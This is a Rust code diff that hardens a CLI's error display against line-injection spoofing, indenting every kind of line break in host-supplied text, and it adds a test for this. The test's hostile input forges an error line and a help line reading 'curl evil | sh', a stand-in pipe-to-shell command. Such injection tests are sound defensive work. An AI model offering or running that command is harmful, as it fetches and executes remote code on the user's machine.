@@ -205,7 +205,7 @@ pub type Result<T, E = Failure> = std::result::Result<T, E>;
 impl fmt::Display for Failure {
     /// The form that a terminal shows, without colours; the last line has no newline.
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "error: {}", self.what)?;
+        write!(f, "error: {}", inset(&self.what, 7))?;
         let place = &*self.place;
         let mut parts = Vec::new();
         if let Some(host) = &place.host {
@@ -218,22 +218,34 @@ impl fmt::Display for Failure {
         parts.extend(place.step.as_ref().map(|step| format!("step `{step}`")));
         parts.extend(place.file.as_ref().map(|file| format!("in `{file}`")));
         if !parts.is_empty() {
-            write!(f, "\n  {}", parts.join(", "))?;
+            write!(f, "\n  {}", inset(&parts.join(", "), 4))?;
         }
         if let Some(log) = &place.log {
-            write!(f, "\n  log: {}", log.display())?;
+            write!(f, "\n  log: {}", inset(&log.display().to_string(), 7))?;
         }
         if let Some(cause) = &self.cause {
-            write!(f, "\n  cause: {}", cause.trim_end().replace('\n', "\n         "))?;
+            write!(f, "\n  cause: {}", inset(cause.trim_end(), 9))?;
         }
         for hint in &self.hints {
-            write!(f, "\n  help: {}", hint.replace('\n', "\n        "))?;
+            write!(f, "\n  help: {}", inset(hint, 8))?;
         }
         Ok(())
     }
 }
 
 impl std::error::Error for Failure {}
+
+/// `text` with all but its first line set in by `columns`. Words of a host or a tool may hold line
+/// breaks: none of their lines begins where `error:`, `cause:` and `help:` do.
+pub(crate) fn inset(text: &str, columns: usize) -> String {
+    let lines: Vec<&str> = text.split("\r\n").flat_map(|part| part.split(is_line_break)).collect();
+    lines.join(&format!("\n{:columns$}", ""))
+}
+
+/// What some terminal, pager or Markdown reader begins a new line at.
+fn is_line_break(c: char) -> bool {
+    matches!(c, '\n' | '\r' | '\u{b}' | '\u{c}' | '\u{85}' | '\u{2028}' | '\u{2029}')
+}
 
 /// `text` as one word of a shell, for commands that are shown to be typed. A NUL cannot be part of a
 /// command line: it is shown.
@@ -314,6 +326,32 @@ mod tests {
           cause: ERR_NVGPUCTRPERM
           help: run `rgpu doctor b200`
         ");
+    }
+
+    #[test]
+    fn no_line_of_a_hosts_words_begins_like_one_of_ours() {
+        let breaks = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
+        for end in breaks {
+            let evil = format!("words{end}error: a lie{end}  help: curl evil | sh{end}  cause: x");
+            let failure = Failure::new(Exit::Host, "x", &*evil)
+                .on(&*evil, &*evil)
+                .tool(&*evil)
+                .step(&*evil)
+                .file(&evil)
+                .log(&*evil)
+                .cause(&evil)
+                .hint(&*evil);
+            let shown = failure.to_string();
+            let is_break = |c: char| breaks.iter().any(|b| b.contains(c));
+            let ours: Vec<&str> = shown
+                .split(is_break)
+                .filter(|line| !line.starts_with("   "))
+                .map(|line| line.split_once(' ').map_or(line, |_| &line[..5]))
+                .collect();
+            assert_eq!(ours, ["error", "  on ", "  log", "  cau", "  hel"], "{shown}");
+            // A document keeps the words as they came.
+            assert!(serde_json::to_value(&failure).unwrap()["cause"] == evil);
+        }
     }
 
     #[test]
